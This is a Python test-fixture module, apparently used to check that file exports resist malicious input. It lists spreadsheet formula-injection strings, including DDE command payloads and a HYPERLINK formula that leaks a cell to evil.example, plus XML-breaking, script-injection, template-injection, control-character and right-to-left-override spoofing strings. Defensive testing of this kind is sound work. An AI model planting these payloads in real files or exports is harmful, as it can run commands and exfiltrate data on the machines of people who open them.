"""Texts that somebody may send us so that a file does harm, or breaks: what every export is tried with."""

from __future__ import annotations

#: What a spreadsheet could run.
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "bonjour;=1+1",
    'bonjour",=1+1,"',
    "bonjour\n=1+1",
    "bonjour\n  -1+cmd|' /C calc'!A0",
    '";=1+1;"',
    "DDE,@SUM(1)",
)
#: What a file could break on, or take for its own.
BREAKERS = (
    "<r><t>a</t></r>",
    '<r></t></is></c><c r="B2"><f>1+1</f></c><c><is><t></r>',
    "]]><!-- <script>alert(1)</script>",
    "_x0041_ _x005F_",
    "&amp; &#61; <b>",
    "\x00nul \x07cloche \x1b[31mrouge \x7f \x9b",
    "moitié \ud83d de paire \udc00",
    "\ufffe\uffff",
    "مرحبا ب +212612345678",
    "\u202egnp.exe",
    "😀👩‍👩‍👧 🇲🇦",
    "il a dit \"oui\" ; 'non' | peut-être",
    "ligne 1\r\nligne 2\rligne 3\nligne 4",
    "'apostrophe",
    "\\x41 \\n {{7*7}} ${7*7} %s %(a)s",
    "x" * 40_000,
    "😀" * 20_000,
)
TEXTS = (*FORMULAS, *BREAKERS)
